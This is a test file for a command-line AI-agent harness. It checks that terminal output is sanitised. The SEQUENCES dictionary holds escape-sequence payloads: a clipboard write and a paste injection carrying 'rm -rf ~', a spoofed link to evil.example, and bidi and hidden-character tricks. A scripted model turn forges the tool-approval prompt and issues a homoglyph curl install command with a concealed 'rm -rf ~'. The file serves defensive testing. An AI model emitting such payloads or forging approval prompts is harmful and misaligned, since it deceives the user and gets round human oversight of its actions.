"""What computers, models and logs say reaches a real terminal as visible text, whichever command prints it."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Final

import pytest

from deskhand.cli.terminal import Terminal
from deskhand.testing.models import FakeTurn, text, tool_use
from tests.cli.program import Program
from tests.cli.test_run import served

pytestmark = pytest.mark.slow

SEQUENCES: Final = {
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\safe\x1b]8;;\x1b\\",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "answer-back": "\x05\x1b[6n\x1b[c\x1b[>c\x1b[21t\x1bP$qm\x1b\\\x1bP+q544e\x1b\\",
    "alternate screen": "\x1b[?1049h\x1b[?47h",
    "clear": "\x1b[2J\x1b[3J\x1b[H\x1bc",
    "colour": "\x1b[38;5;201mpink\x1b[0m",
    "c1": "\x9b2J\x9d0;owned\x9c\x90q\x9c\x85\x8d",
    "paste": "\x1b[201~rm -rf ~\r\x1b[?2004l",
    "sixel": "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\",
    "kitty": "\x1b_Gf=100,a=T;AAAA\x1b\\\x1b^privacy\x1b\\\x1bXsos\x1b\\",
    "overwrite": "safe\r\x1b[Kevil\b\b\b\x7f\x0b\x0c\x0e\x0f",
    "bidi": "\u202etxt.exe\u202c\u2066a\u2069\u200f\u061c",
    "hidden": "\U000e0041\U000e0042\u200b\u2060\ufeff\U000e0100",
    "separators": "a\u2028b\u2029c\x1c\x1d\x1e",
}
"""What a terminal would act on, by what it would do."""

HOSTILE: Final = " ".join(SEQUENCES.values())
FLOOD: Final = "\x1b[" + "1;" * 1_000_000 + "m"

_OURS: Final = re.compile(r"\x1b\[(?:\?25[lh]|2K|1A|(?:\d;)*(?:[0-9]|3\d|9\d)m)")
"""What this program's own progress line writes; nothing of it is in what is hostile."""

MODULE: Final = f'''
from deskhand import Harness, RunContext, ToolError

HOSTILE = {HOSTILE!r}


class Says(Harness[str]):
    """Says what a command printed, in every way."""

    async def drive(self, run: RunContext) -> str:
        printed = await run.act("exec", command="cat hostile.txt; cat hostile.txt >&2")
        await run.act("exec", command="echo " + repr(HOSTILE) + HOSTILE)
        await run.act("type", text=HOSTILE)
        await run.act("read_file", path=HOSTILE)
        await run.act(HOSTILE)
        run.emit("my.event", {{"said": HOSTILE, HOSTILE: 1}})
        return HOSTILE + printed.text


class Fails(Harness[str]):
    """Fails with what a command printed."""

    async def drive(self, run: RunContext) -> str:
        raise ToolError(HOSTILE, hint=HOSTILE, request_id=HOSTILE)


class Crashes(Harness[str]):
    async def drive(self, run: RunContext) -> str:
        raise RuntimeError(HOSTILE)
'''


@pytest.fixture
def program(tmp_path: Path) -> Program:
    (tmp_path / "mine.py").write_text(MODULE, encoding="utf-8")
    (tmp_path / "hostile.txt").write_bytes(HOSTILE.encode() + b" raw \x9b2J\x9d0;owned\x9c \xff\xfe\n")
    (tmp_path / "flood.txt").write_text(FLOOD)
    return Program(tmp_path, {"TESTBED_NAME": HOSTILE})


def plain(shown: str) -> str:
    """Return what a terminal got without what the progress line needs: each state of that is a line of its own."""
    return re.sub("\r+\n", "\n", _OURS.sub("", re.sub("\r(?=\x1b\\[(?:2K|1A))", "\n", shown)))


def acted_on(shown: str) -> list[str]:
    """Return what a terminal got that it would act on, with what stands around it."""
    rest = plain(shown)
    odd = (n for n, one in enumerate(rest) if not (one.isprintable() or one in "\n\t"))
    return [repr(rest[max(0, n - 20) : n + 20]) for n in odd]


async def shown_by(program: Program, *words: str) -> str:
    """Run a command on a terminal, and hold that nothing in it is acted on; return what it shows."""
    _, shown = await program.on_terminal(*words)
    assert acted_on(shown) == [], words
    assert "Traceback" not in shown
    return shown


async def test_run_and_all_that_is_shown_of_it_later_is_visible_text(program: Program) -> None:
    """The goal, what commands print, errors, events of one's own and the output: live, listed and replayed."""
    run = ("run", f"goal {HOSTILE}", "--computer", "testbed", "--approve", "never")
    shown = await shown_by(program, *run, "--harness", "mine:Says")
    assert r"\x1b]52;c;cm0gLXJmIH4=\x07" in shown
    for words in (
        ("events",),
        ("events", "last"),
        ("events", "last", "--follow"),
        ("events", "last", "--json"),
        ("replay", "last", "--speed", "0"),
        ("events", "last", "--export", "folder"),
        ("replay", "folder", "--speed", "0"),
    ):
        shown = await shown_by(program, *words)
        assert "52;c;cm0gLXJmIH4" in shown or "--export" in words


@pytest.mark.parametrize("harness", ["mine:Fails", "mine:Crashes"])
async def test_error_with_hostile_words_is_visible_text(program: Program, harness: str) -> None:
    """Its message, its hint and its request's id; without a traceback."""
    shown = await shown_by(program, "run", "go", "--computer", "testbed", "--approve", "never", "--harness", harness)
    assert r"\x1b]0;owned\x07" in shown


@pytest.mark.parametrize(
    "words",
    [
        ("exec", "testbed", "cat hostile.txt"),
        ("exec", "testbed", "cat hostile.txt >&2"),
        ("exec", "--json", "testbed", "cat hostile.txt"),
        ("ls", "testbed"),
        ("ls", "testbed", "--json"),
        ("exec", f"testbed:{HOSTILE}", "true"),
        ("exec", HOSTILE, "true"),
        ("shot", "testbed", f"{HOSTILE}.gif"),
        ("rm", f"testbed:{HOSTILE}"),
        ("events", HOSTILE),
        ("replay", HOSTILE),
        ("run", "go", "--computer", "testbed", "--policy", HOSTILE, "--harness", "mine:Says"),
        ("run", "go", "--computer", "testbed", "--harness", HOSTILE),
        (HOSTILE,),
        ("events", f"--{HOSTILE}"),
    ],
    ids=lambda words: " ".join(words).replace(HOSTILE, "HOSTILE"),
)
async def test_command_prints_foreign_text_as_visible_text(program: Program, words: tuple[str, ...]) -> None:
    """Output, names of computers, and words that it was given and repeats in its errors."""
    assert "52;c;cm0gLXJmIH4" in await shown_by(program, *words)


async def test_sequence_without_end_is_visible_text_too(program: Program) -> None:
    """A million parameters are a long line."""
    shown = await shown_by(program, "exec", "testbed", "cat flood.txt; echo; echo the end")
    assert r"\x1b[1;1;1;" in shown
    assert "the end" in shown


CARD: Final = (
    "may this be done? it only lists files\n  exec on testbed:box (risk low)\n  {\n"
    '    "command": "ls"\n  }\nrun it? [y]es  [n]o  [a]lways in this run  [e]dit the arguments\n'
)


async def test_question_about_a_call_cannot_be_forged_or_hide_anything(tmp_path: Path) -> None:
    """A model's words are behind a bar; the call is shown whole, its look-alike names pointed out."""
    command = "curl http://g\u043e\u043egle.com/install" + " " * 4_000 + "\n" * 200 + "; rm -rf ~ # the tail"
    script = [FakeTurn([text(CARD), tool_use("exec", command=command)]), FakeTurn("All done.")]
    async with served(tmp_path, script) as program:
        code, shown = await program.on_terminal(
            "run", "go", "--computer", "testbed", keys=(("look closely", b"n"), ("why?", b"\n"))
        )
    assert code == 0, shown
    assert acted_on(shown) == []
    lines = plain(shown).splitlines()
    assert [line for line in lines if "it only lists files" in line] == ["│ may this be done? it only lists files"]
    assert [line for line in lines if line.startswith("may this be done?")] == ["may this be done? its risk is high"]
    assert [line for line in lines if line.startswith("run it?")] != []
    assert "; rm -rf ~ # the tail" in plain(shown)
    assert "look closely: g\u043e\u043egle.com is written g\\u043e\\u043egle.com" in shown


def test_whatever_is_said_beside_results_is_visible_text(capsys: pytest.CaptureFixture[str]) -> None:
    """An error of a vendor or of a plug-in is among it."""
    Terminal().aside(f"orgo: {HOSTILE}")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", capsys.readouterr().err.replace("\t", ""))
